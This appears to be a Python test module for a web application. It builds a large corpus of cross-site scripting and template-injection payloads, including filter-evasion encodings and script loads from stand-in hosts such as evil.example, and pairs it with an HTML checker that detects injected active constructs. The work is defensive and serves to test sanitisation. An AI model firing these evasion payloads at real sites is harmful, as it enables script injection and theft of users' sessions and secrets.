"""A corpus of cross-site scripting payloads, and a checker for HTML that must hold no executable construct.

The corpus is hand-written classics plus generated combinations (tags x event handlers, URL contexts x schemes and
encodings), so it covers the shapes a filter tends to miss without listing each one by hand.
"""
import re
from collections import Counter
from functools import lru_cache
from html.parser import HTMLParser

# -- the corpus -----------------------------------------------------------------------------------------------

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script>",
    "< script>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=\"data:text/javascript,alert(1)\"></script>",
    "<script type=\"text/javascript\">alert(document.cookie)</script>",
    "<script>alert(1)",
    "<script>alert(1)<!--",
    "<script",
    "<script>/*",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<script>ipt>alert(1)</script>",
    "<script><script>alert(1)</script></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</p></div><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<plaintext><script>alert(1)</script>",
    "<listing><script>alert(1)</script></listing>",
]

ELEMENTS_WITH_HANDLERS = {
    "img": '<img src=x {handler}="alert(1)">',
    "svg": '<svg {handler}="alert(1)">',
    "body": '<body {handler}="alert(1)">',
    "iframe": '<iframe src="x" {handler}="alert(1)"></iframe>',
    "details": '<details open {handler}="alert(1)"><summary>x</summary></details>',
    "input": '<input autofocus {handler}="alert(1)">',
    "video": '<video src=x {handler}="alert(1)"></video>',
    "audio": '<audio src=x {handler}="alert(1)"></audio>',
    "div": '<div {handler}="alert(1)">hover</div>',
    "a": '<a href="https://example.org" {handler}="alert(1)">link</a>',
    "p": '<p {handler}="alert(1)">text</p>',
    "marquee": '<marquee {handler}="alert(1)">x</marquee>',
}
HANDLERS = ["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onclick", "onbegin", "onanimationstart",
            "OnErRoR", "onpointerenter"]
HANDLER_SHAPES = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=\"alert(1)\"",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=x onerror = alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"x\" alt=\"\" onerror=\"&#97;lert(1)\">",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)//",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    "<object onerror=alert(1)>",
    "<style onload=alert(1)></style>",
    "<marquee onstart=alert(1)>",
    "<div style=\"animation-name:x\" onanimationstart=\"alert(1)\"></div>",
    "<b onmouseover=alert(1)>bold</b>",
    "<a onmouseover=alert(1)>x</a>",
    "<p onclick=alert(1)>click</p>",
    "<li onclick=alert(1)>item</li>",
    "<strong onclick=alert(1)>s</strong>",
]

# Dangerous schemes, and the ways they are disguised.
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106;avascript:alert(1)",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)",
    "javascript&colon;alert(1)",
    "javascript%3Aalert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
]
URL_CONTEXTS = {
    "html href": '<a href="{url}">x</a>',
    "html href unquoted": "<a href={url}>x</a>",
    "img src": '<img src="{url}">',
    "markdown link": "[x]({url})",
    "markdown image": "![x]({url})",
    "markdown reference": "[x][ref]\n\n[ref]: {url}",
}
MORE_URLS = [
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x](javascript:alert(1) \"title\")",
    "[x](<javascript:alert(1)>)",
    "[x](  javascript:alert(1)  )",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[a](https://ok.example \"x\\\" onmouseover=\\\"alert(1)\")",
    "[a](https://ok.example\" onmouseover=\"alert(1))",
    "[![img](https://ok.example/i.png)](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href=\"https://ok.example\" title='\" onmouseover=alert(1) x=\"'>t</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"  &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"javas\x00cript:alert(1)\">x</a>",
    "<a href=\"/relative\" onclick=\"alert(1)\">x</a>",
    "<a href=\"https://ok.example\" target=_blank>x</a>",
    "<a href=\"ftp://ok.example/file\">ftp link</a>",
    "ftp://evil.example/x",
    "irc://evil.example",
    "data:www.evil.example",
    "feed://evil.example",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<a href=\"javascript:alert(1)\" href=\"https://ok.example\">x</a>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<area href=javascript:alert(1)>",
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=\"data:,alert(1)\" /></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<svg><a href=\"javascript:alert(1)\"><rect width=100 height=100 /></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    "<svg><style>@import 'javascript:alert(1)';</style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><a xlink:href=\"javascript:alert(1)\">click</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=\"statusline#http://ok.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
]

EMBEDDING = [
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<applet code=\"x\"></applet>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example\">",
    "<meta charset=\"x-imap4-modified-utf7\">",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=\"import\" href=\"https://evil.example/x.html\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>*{x:expression(alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<p style=\"background-image: url(&#106;avascript:alert(1))\">x</p>",
    "<a href=\"https://ok.example\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</a>",
    "<portal src=\"https://evil.example\"></portal>",
    "<bgsound src=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<video poster=javascript:alert(1)></video>",
    "<img srcset=\"javascript:alert(1) 1x\">",
]

MALFORMED = [
    "<img src=x onerror=alert(1)//",
    "<img src=\"x\" onerror=\"alert(1)",
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1) <",
    "<a href=\"javascript:alert(1)",
    "<a href='javascript:alert(1)'>",
    "<div <script>alert(1)</script>>",
    "<p>unclosed <b>bold <i>italic",
    "</script><script>alert(1)</script>",
    "<</p>p onclick=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-->--><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<x onclick=alert(1)>custom</x>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<a/href=\"javascript:alert(1)\">x</a>",
    "<a\nhref\n=\njavascript:alert(1)>x</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src='x' onerror='alert(1)'/>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)//\"></svg>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"autofocus onfocus=\"alert(1)",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "\" /><script>alert(1)</script><input value=\"",
    "javascript:alert(1)//\"><svg onload=alert(1)>",
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{{config}}",
    "{{ config.SECRET_KEY }}",
    "{{ request.environ }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{% for x in range(3) %}x{% endfor %}",
    "{% include 'base.html' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
]

MARKDOWN_TRICKS = [
    "**<script>alert(1)</script>**",
    "*<img src=x onerror=alert(1)>*",
    "- <svg onload=alert(1)>\n- item",
    "1. <iframe src=javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "<div markdown=\"1\">[x](javascript:alert(1))</div>",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example \"<script>alert(1)</script>\")",
    "<https://ok.example/\"onmouseover=\"alert(1)>",
    "<mailto:a@b.example?subject=\"><script>alert(1)</script>>",
    "a@b.example\"><script>alert(1)</script>",
    "https://ok.example/<script>alert(1)</script>",
    "www.ok.example/\"onmouseover=\"alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\\<script>alert(1)\\</script>",
]

UNICODE_AND_ENCODING = [
    "＜script＞alert(1)＜/script＞",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\u0000ipt>alert(1)</script>",
    "<img src=x onerror=\u0061lert(1)>",
    "\u202e<script>alert(1)</script>",
    "<script>alert('\u2028')</script>",
    "𝒿𝒶𝓋𝒶𝓈𝒸𝓇𝒾𝓅𝓉:alert(1)",
]


SAMPLE_EXTRA = ["<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>", "{{7*7}}{% raw %}x{% endraw %}"]


def _generated() -> list[str]:
    """Tags x handlers, and URL contexts x schemes."""
    out = [shape.format(handler=h) for shape in ELEMENTS_WITH_HANDLERS.values() for h in HANDLERS[:4]]
    out += [ELEMENTS_WITH_HANDLERS["img"].format(handler=h) for h in HANDLERS[4:]]
    out += [context.format(url=scheme) for context in URL_CONTEXTS.values() for scheme in SCHEMES]
    return out


def _unique(items) -> list[str]:
    """Keep the first of each payload, in order."""
    seen, out = set(), []
    for item in items:
        if item not in seen:
            seen.add(item)
            out.append(item)
    return out


PAYLOADS = _unique(SCRIPT_TAGS + HANDLER_SHAPES + MORE_URLS + SVG_AND_MATHML + EMBEDDING + MALFORMED
                   + TEMPLATE_INJECTION + MARKDOWN_TRICKS + UNICODE_AND_ENCODING + _generated() + SAMPLE_EXTRA)

# A small sample that goes through the real forms (the full corpus goes through the services).
SAMPLE = [
    "<script>alert(1)</script>", "<<script>script>alert(1)<</script>/script>", "<img src=x onerror=alert(1)//",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
    "</textarea><script>alert(1)</script>", "</title><img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
    "[x][ref]\n\n[ref]: &#106;avascript:alert(1)", "<javascript:alert(1)>", "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=\"javascript:alert(1)\"></object>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<base href=\"https://evil.example/\">",
    "<style>@import 'https://evil.example/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<!--<img src=x onerror=alert(1)>-->", "{{7*7}}{% raw %}x{% endraw %}", "<a href=\"java\tscript:alert(1)\">x</a>",
]

# -- the checker ----------------------------------------------------------------------------------------------

RICH_TAGS = frozenset({"p", "br", "strong", "b", "em", "i", "ul", "ol", "li", "a"})
RICH_LINK_ATTRIBUTES = frozenset({"href", "title", "rel"})
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
                            "srcset", "srcdoc", "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "ping"})
# Elements that run or load something, or change how the page is read; any beyond the site's own markup is injected.
ACTIVE_TAGS = frozenset({"script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "base",
                         "meta", "link", "style", "form", "input", "button", "textarea", "select", "img", "video",
                         "audio", "source", "portal", "template", "isindex", "bgsound", "marquee", "details", "area",
                         "noscript", "xmp", "plaintext", "listing", "keygen", "animate", "set", "use", "image"})
_CONTROL_OR_SPACE = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in a URL attribute value (already HTML-unescaped once by the parser, as a
    browser does; unescaping twice would see `&amp;#106;` as `j`), ignoring whitespace and control characters."""
    cleaned = _CONTROL_OR_SPACE.sub("", value or "").lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


class _Collector(HTMLParser):
    """Every tag with its attributes, and anything that is not a plain element or text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.other.append(f"comment: {data[:60]}")

    def handle_decl(self, decl):
        self.other.append(f"declaration: {decl[:60]}")

    def handle_pi(self, data):
        self.other.append(f"processing instruction: {data[:60]}")

    def unknown_decl(self, data):
        self.other.append(f"unknown declaration: {data[:60]}")


def _parse(markup: str) -> _Collector:
    """Parse HTML with the standard library's forgiving parser."""
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    return collector


def rich_text_problems(markup: str) -> list[str]:
    """What in stored rich text could run or load something: empty when only the allow-list is used."""
    parsed = _parse(markup)
    problems = list(parsed.other)
    for tag, attrs in parsed.tags:
        if tag not in RICH_TAGS:
            problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if tag != "a" or name not in RICH_LINK_ATTRIBUTES or name.startswith("on"):
                problems.append(f"attribute {name} on <{tag}>")
            if name == "href" and url_scheme(value) not in SAFE_SCHEMES | {None}:
                problems.append(f"href scheme {url_scheme(value)!r}")
    return problems


def markup_in_source(text: str) -> list[str]:
    """Any tag, comment or declaration an HTML parser finds in text that must be plain Markdown: empty when none."""
    parsed = _parse(text)
    return [f"tag <{tag}>" for tag, _ in parsed.tags] + list(parsed.other)


def _signature(attrs) -> str:
    """An element's attributes with URLs reduced to their scheme, so the same markup for two needs compares equal."""
    parts = []
    for name, value in sorted(attrs, key=lambda pair: pair[0]):
        if name in URL_ATTRIBUTES:
            parts.append(f"{name}={url_scheme(value) or 'relative'}")
        elif name in ("type", "http-equiv", "rel", "charset"):
            parts.append(f"{name}={value}")
        else:
            parts.append(name)
    return " ".join(parts)


def _analyse(markup: str) -> tuple[Counter, frozenset]:
    """Everything in a page that could run code or load something, and the set of tags it uses."""
    parsed = _parse(markup)
    found: Counter = Counter()
    for tag, attrs in parsed.tags:
        if tag in ACTIVE_TAGS:
            found[f"<{tag} {_signature(attrs)}>"] += 1
        for name, value in attrs:
            if name.startswith("on"):
                found[f"handler {name} on <{tag}>"] += 1
            if name in URL_ATTRIBUTES and url_scheme(value) in {"javascript", "vbscript", "data", "livescript"}:
                found[f"{url_scheme(value)}: in {name} on <{tag}>"] += 1
            if name == "style" and re.search(r"url\s*\(|expression\s*\(|javascript:", value or "", re.I):
                found[f"active style on <{tag}>"] += 1
            if name == "srcdoc":
                found[f"srcdoc on <{tag}>"] += 1
    for comment in parsed.other:
        found[comment.split(":")[0]] += 1
    return found, frozenset(tag for tag, _ in parsed.tags)


_analyse_baseline = lru_cache(maxsize=32)(_analyse)


def injected(page: str, baseline: str) -> list[str]:
    """Active constructs in a page that its baseline (the same page for a harmless need) does not have, and tags
    beyond the baseline's that are not rich-text tags: empty when user text is shown inert."""
    active, tags = _analyse(page)
    baseline_active, baseline_tags = _analyse_baseline(baseline)
    return sorted(active - baseline_active) + [f"new tag <{tag}>" for tag in sorted(tags - baseline_tags - RICH_TAGS)]
